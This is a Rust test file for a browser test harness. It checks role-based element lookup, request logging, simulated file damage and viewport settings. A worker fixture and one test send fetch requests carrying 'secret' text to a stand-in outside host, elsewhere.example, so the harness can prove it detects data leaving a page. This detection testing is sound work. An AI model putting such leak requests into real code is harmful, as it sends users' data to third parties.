//! The harness itself, on a page of a few lines: what the other tests conclude from its silence must be true.

use std::time::Duration;

use crate::support::browser::{Browser, eventually};
use crate::support::server::{Damage, Server};

const PAGE: &str = r#"<!doctype html><html lang="en"><title>Harness</title>
<meta name="viewport" content="width=device-width">
<button>Go</button> <button aria-label="Cancel">×</button> <button hidden>Never</button>
<label>Word <input></label> <section aria-label="Result"></section> <section>No region</section>
<script>
  const worker = new Worker("worker.js");
  document.querySelector("button").onclick = () => worker.postMessage("go");
</script>"#;

const WORKER: &str = r#"onmessage = async () => {
  await fetch("data.bin");
  await fetch("http://elsewhere.example/leak?text=secret").catch(() => {});
};"#;

fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("index.html"), PAGE).unwrap();
    std::fs::write(folder.path().join("worker.js"), WORKER).unwrap();
    std::fs::write(folder.path().join("data.bin"), [7; 1000]).unwrap();
    folder
}

#[tokio::test]
async fn finds_by_role_and_name() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    browser.find("button", "Go").await;
    browser.find("button", "Cancel").await;
    browser.find("textbox", "Word").await;
    browser.find("region", "Result").await;
    assert_eq!(browser.all("button").await.len(), 2, "a hidden button is not there");
    assert_eq!(browser.all("region").await.len(), 1, "a section without a name is no region");
}

#[tokio::test]
async fn sees_what_a_worker_requests_here_and_elsewhere() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    browser.find("button", "Go").await.click().await.unwrap();
    eventually(Duration::from_secs(10), async || {
        let requests = server.requests();
        let seen = |what: &str| requests.iter().any(|request| request == what);
        let both = seen("GET /data.bin") && seen("GET http://elsewhere.example/leak?text=secret");
        if both { Ok(()) } else { Err(requests) }
    })
    .await;
    // Over HTTPS a proxy sees the host only; that is enough to notice.
    browser.run("fetch('https://elsewhere.example/secret').catch(() => {})", vec![]).await;
    eventually(Duration::from_secs(10), async || {
        let requests = server.requests();
        let seen = requests.iter().any(|request| request == "CONNECT elsewhere.example:443");
        if seen { Ok(()) } else { Err(requests) }
    })
    .await;
}

#[tokio::test]
async fn damages_a_file_so_many_times() {
    let folder = folder();
    let server = Server::start_at(folder.path(), "/repo/").await;
    let browser = Browser::start(&server).await;
    browser.goto(&server.url()).await;
    let length = "return fetch('data.bin').then(r => r.arrayBuffer()).then(b => `${b.byteLength} ${new Uint8Array(b)[500]}`)";
    let status = "return fetch('data.bin').then(r => `${r.status} ${r.headers.get('content-type')}`)";
    for (damage, script, seen, healed) in [
        (Damage::Truncated, length, "500 undefined", "1000 7"),
        (Damage::Flipped, length, "1000 248", "1000 7"),
        (Damage::Html, status, "200 text/html; charset=utf-8", "200 application/octet-stream"),
        (Damage::NotFound, status, "404 null", "200 application/octet-stream"),
    ] {
        server.damage("data.bin", damage, 1);
        assert_eq!(browser.run(script, vec![]).await, seen, "{damage:?}");
        assert_eq!(browser.run(script, vec![]).await, healed, "after {damage:?}");
    }
    assert_eq!(browser.run("return fetch('/data.bin').then(r => r.status)", vec![]).await, 404, "nothing lies beside /repo/");
}

#[tokio::test]
async fn sets_what_the_page_sees_of_the_screen() {
    let folder = folder();
    let server = Server::start(folder.path()).await;
    let browser = Browser::start(&server).await;
    browser.set_size(375, 800).await;
    browser.set_color_scheme("dark").await;
    browser.goto(&server.url()).await;
    assert_eq!(browser.run("return innerWidth", vec![]).await, 375);
    assert_eq!(browser.run("return matchMedia('(prefers-color-scheme: dark)').matches", vec![]).await, true);
    assert_eq!(&browser.screenshot().await[..4], b"\x89PNG");
}
